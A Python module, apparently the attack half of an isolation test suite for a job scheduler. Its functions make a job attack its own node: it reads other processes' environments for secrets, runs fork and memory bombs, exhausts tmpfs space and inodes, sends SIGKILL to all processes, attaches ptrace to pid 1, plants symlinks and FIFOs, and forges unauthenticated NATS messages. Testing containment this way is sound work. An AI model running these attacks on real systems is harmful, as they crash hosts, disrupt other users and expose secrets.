"""Attacks of a job on its node. Each returns what it achieved."""

import ctypes
import errno
import os
import signal
import socket
import stat
import subprocess
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path

PTRACE_ATTACH = 16
CLONE_NEWUSER = 0x1000_0000
FAR_ABOVE_THE_LIMIT = 3_000
FAR_MORE_FILES = 100_000
STEP_MIB = 32
FOLDERS_IN_MEMORY = ("/tmp", "/var/tmp", "/run", "/dev/shm", "/dev", "/")


def read_environments(secret: str) -> list[str]:
    """Processes whose environment holds the secret."""
    found = []
    for environment in Path("/proc").glob("[0-9]*/environ"):
        try:
            found += [str(environment)] if secret in environment.read_text(errors="replace") else []
        except OSError:
            continue
    return found


def open_files(_: str) -> int:
    """How many it could open before the machine refused."""
    opened = []
    try:
        while len(opened) < FAR_MORE_FILES:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    for descriptor in opened:
        os.close(descriptor)
    return len(opened)


def read_file(path: str) -> str:
    try:
        return Path(path).read_text()
    except OSError:
        return ""


def list_folder(path: str) -> list[str]:
    return sorted(os.listdir(path))


def write_files(paths: str) -> list[str]:
    written = []
    for path in paths.split():
        try:
            Path(path).write_text("attack")
            written.append(path)
        except OSError:
            continue
    return written


def plant_links(folder_and_victim: str) -> list[str]:
    """Links to the victim, and FIFOs, under the names of logs; returns those that it could make."""
    folder, victim = map(Path, folder_and_victim.split())
    for name in ("g8-r0.log", "task.log", "task.log.1"):
        (folder / name).symlink_to(victim)
    for name in ("g9-r0.log", "fifo.log"):
        os.mkfifo(folder / name)
    return sorted(path.name for path in folder.iterdir() if not path.is_file())


def end_process(pid: str) -> bool:
    """Signal it by its number, and all processes in sight; True if a signal found another process."""
    return any(_found_by_signal(each) for each in (int(pid), -1))


def _found_by_signal(pid: int) -> bool:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        return False
    return True


def trace_process(pid: str) -> list[int]:
    """Return which of the process and the first one of the namespaces it could attach to."""
    libc = ctypes.CDLL(None)
    return [each for each in (int(pid), 1) if libc.ptrace(PTRACE_ATTACH, each, None, None) == 0]


def ask_the_kernel(_: str) -> list[str]:
    """The dangerous system calls that it may make, and the rights that it could gain."""
    calls = {
        "bpf": 321,
        "perf_event_open": 298,
        "userfaultfd": 323,
        "keyctl": 250,
        "io_uring_setup": 425,
        "unshare": 272,
    }
    libc, found = ctypes.CDLL(None, use_errno=True), list[str]()
    for name, number in calls.items() if os.uname().machine == "x86_64" else ():
        ctypes.set_errno(0)
        libc.syscall(number, 0, 0, 0, 0, 0)
        found += [] if ctypes.get_errno() in (errno.EPERM, errno.ENOSYS) else [name]
    status = Path("/proc/self/status").read_text().splitlines()
    return found + [line for line in status if line.startswith("Cap") and int(line.split()[1], 16)]


def list_devices(_: str) -> list[str]:
    return sorted(os.listdir("/dev"))


def nest_folders(folder: str) -> int:
    """Each in the one before, in its log folder, with an old time; returns their number."""
    made, current = 0, os.open(folder, os.O_RDONLY)
    try:
        while made < FAR_ABOVE_THE_LIMIT:
            os.mkdir("nested", dir_fd=current)
            below = os.open("nested", os.O_RDONLY, dir_fd=current)
            os.close(current)
            current, made = below, made + 1
    finally:
        os.close(current)
        os.utime(folder, (0, 0))
    return made


def forge_frames(_: str) -> None:
    """Random bytes, and a length that promises more than follows, into each of its sockets; then it waits."""
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError), socket.socket(fileno=os.dup(int(name))) as found:
            found.send(b"\x00\x00\x00\x40" + os.urandom(64) + b"\xff\xff\xff\xff")
    time.sleep(600)


def leave_daemons(sleep_s: str) -> int:
    """Start them in sessions of their own, without a variable, after two forks; returns their number."""
    commands = (f"setsid env -i sleep {sleep_s}", f"env -i setsid sh -c 'sleep {sleep_s} & sleep {sleep_s}'")
    for each in commands:
        daemon = f"{each} </dev/null >/dev/null 2>&1 &"
        subprocess.run(["sh", "-c", daemon], env={"PATH": os.environ["PATH"]}, check=True)
    time.sleep(0.5)  # until they run
    return len(commands) + 1


def link_artifacts(folder_and_victim: str) -> list[str]:
    """Links to the victim, and a FIFO, and a device, where its artifacts are taken from."""
    folder, victim = map(Path, folder_and_victim.split())
    folder.mkdir(exist_ok=True)
    (folder / "link").symlink_to(victim)
    (folder / "folder").symlink_to(victim.parent)
    os.mkfifo(folder / "fifo")
    (folder / "honest").write_text("honest")
    with open(folder / "sparse", "wb") as sparse:
        sparse.truncate(1 << 43)
    with suppress(OSError):
        os.mknod(folder / "device", 0o600 | stat.S_IFCHR, os.makedev(1, 8))
    return sorted(path.name for path in folder.iterdir())


def enter_user_namespace(_: str) -> bool:
    return ctypes.CDLL(None).unshare(CLONE_NEWUSER) == 0


def fork_bomb(_: str) -> int:
    """Processes that it could start."""
    started: list[subprocess.Popen[bytes]] = []
    try:
        while len(started) < FAR_ABOVE_THE_LIMIT:
            started.append(subprocess.Popen(["sleep", "60"]))
    except OSError:
        pass
    return len(started)


def memory_bomb(_: str) -> int:
    """MiB that it could allocate: the pages are written."""
    taken: list[bytearray] = []
    try:
        while len(taken) < FAR_ABOVE_THE_LIMIT // STEP_MIB:
            taken.append(bytearray(b"x") * (STEP_MIB << 20))
    except MemoryError:
        pass
    return STEP_MIB * len(taken)


def run_out_of_memory(_: str) -> int:
    return len(bytearray(FAR_ABOVE_THE_LIMIT << 20))


def fill_folders_in_memory(_: str) -> int:
    """MiB of files that it could write where files take main memory."""
    written = 0
    for folder in FOLDERS_IN_MEMORY:
        try:
            with open(f"{folder}/attack", "wb", buffering=0) as file:
                while written < FAR_ABOVE_THE_LIMIT << 20:
                    written += file.write(b"x" * (1 << 20))
        except OSError:
            continue
    return written >> 20


def make_empty_files(_: str) -> int:
    """Return how many it could make there: each takes memory of the kernel."""
    made = 0
    for folder in FOLDERS_IN_MEMORY:
        try:
            while made < FAR_MORE_FILES:
                os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY))
                made += 1
        except OSError:
            continue
    return made


def fill_folder(folder: str) -> str:
    """The error that ended it."""
    try:
        with open(f"{folder}/attack", "wb", buffering=0) as file:
            for _ in range(FAR_ABOVE_THE_LIMIT):
                file.write(b"x" * (1 << 20))
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    return ""


def use_up_inodes(folder: str) -> str:
    """The error that ended it: of files without a byte, each takes an inode."""
    Path(folder, "attack").mkdir()
    try:
        for number in range(FAR_MORE_FILES):
            os.close(os.open(f"{folder}/attack/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    return ""


def write_plan_without_key(address: str) -> str:
    """What a NATS server answers to a decision from a client without a key."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=60.0) as client:
        client.sendall(b'CONNECT {"verbose": false}\r\nPUB ef.ledger.pool-a.plan 6\r\nforged\r\nPING\r\n')
        received = b""
        while b"PONG" not in received and (more := client.recv(4096)):
            received += more
    return received.partition(b"\r\n")[2].decode()  # after the server's description of itself


ATTACKS: Mapping[str, Callable[[str], object]] = {
    attack.__name__: attack
    for attack in (
        *(read_environments, open_files, read_file, list_folder, write_files, plant_links),
        *(end_process, trace_process, enter_user_namespace, fork_bomb),
        *(ask_the_kernel, list_devices, nest_folders, forge_frames, leave_daemons, link_artifacts),
        *(memory_bomb, run_out_of_memory, fill_folders_in_memory, make_empty_files),
        *(fill_folder, use_up_inodes, write_plan_without_key),
    )
}
